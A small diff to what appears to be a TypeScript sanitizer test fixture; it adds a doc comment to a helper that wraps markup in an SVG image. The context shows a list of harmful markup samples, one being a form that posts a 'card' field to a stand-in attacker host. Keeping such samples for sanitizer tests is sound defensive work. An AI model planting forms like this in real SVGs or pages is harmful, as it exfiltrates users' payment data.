@@ -20,6 +20,7 @@ export const HARMFUL_MARKUP: readonly string[] = [
   '<form xmlns="http://www.w3.org/1999/xhtml" action="https://evil.example"><input name="card"/></form>',
 ];
 
+/** Returns an SVG image that contains some markup. */
 export function drawingWith(inside: string): string {
   const namespaces = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
   return `<svg ${namespaces} viewBox="0 0 1600 620"><title>A hill</title>${inside}</svg>`;
